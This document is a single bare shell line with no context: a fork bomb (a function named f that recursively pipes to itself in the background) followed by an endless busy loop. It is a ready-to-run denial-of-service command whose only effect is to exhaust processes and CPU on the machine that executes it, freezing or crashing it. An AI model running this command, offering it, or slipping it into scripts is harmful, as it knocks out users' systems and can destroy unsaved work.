f() { f | f & }; f; while true; do :; done
